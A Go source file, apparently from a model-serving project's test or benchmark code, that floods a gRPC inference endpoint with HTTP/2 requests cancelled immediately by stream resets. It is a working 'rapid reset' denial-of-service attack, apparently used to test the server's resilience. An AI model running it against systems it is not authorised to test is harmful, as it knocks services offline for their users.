package hostile

import (
	"bytes"
	"context"
	"encoding/binary"
	"io"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/protobuf/proto"

	"github.com/shivad/shivad/bench/load"
	"github.com/shivad/shivad/server/grpc/pb"
)

const (
	resetters  = 8
	resetBatch = 100 // calls in a write
)

// Reset runs clients of a server's gRPC door that send and cancel requests at once, as fast as
// they can, until ctx ends. A client whose connection is closed reconnects.
func Reset(ctx context.Context, addr, model string) error {
	ask, err := proto.Marshal(&pb.ModelInferRequest{
		ModelName:        model,
		Inputs:           []*pb.ModelInferRequest_InferInputTensor{{Name: "x", Datatype: "FP32", Shape: []int64{1, 16}}},
		RawInputContents: [][]byte{make([]byte, 16*4)},
	})
	if err != nil {
		return err
	}
	message := append(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(ask))), ask...)
	var clients sync.WaitGroup
	for range resetters {
		clients.Go(func() {
			for ctx.Err() == nil {
				reset(ctx, addr, message)
			}
		})
	}
	clients.Wait()
	return nil
}

// reset sends and cancels requests on a connection until the server closes it, or ctx ends.
func reset(ctx context.Context, addr string, message []byte) {
	c, err := new(net.Dialer).DialContext(ctx, "tcp", addr)
	if err != nil {
		select {
		case <-ctx.Done():
		case <-time.After(10 * time.Millisecond):
		}
		return
	}
	defer c.Close()
	defer context.AfterFunc(ctx, func() { c.Close() })()
	var reading sync.WaitGroup
	defer reading.Wait()
	defer c.Close()
	reading.Go(func() {
		_, _ = io.Copy(io.Discard, c) // a client that does not read would be disconnected for that
		c.Close()
	})

	var out, block bytes.Buffer
	out.WriteString(http2.ClientPreface)
	frames := http2.NewFramer(&out, nil)
	fields := hpack.NewEncoder(&block)
	err = frames.WriteSettings()
	for stream := uint32(1); err == nil; {
		for range resetBatch {
			block.Reset()
			for _, f := range load.GRPCHeaders {
				_ = fields.WriteField(f) // into memory, like all that follow
			}
			_ = frames.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block.Bytes(), EndHeaders: true})
			_ = frames.WriteData(stream, true, message)
			_ = frames.WriteRSTStream(stream, http2.ErrCodeCancel)
			stream += 2
		}
		_, err = c.Write(out.Bytes())
		out.Reset()
	}
}
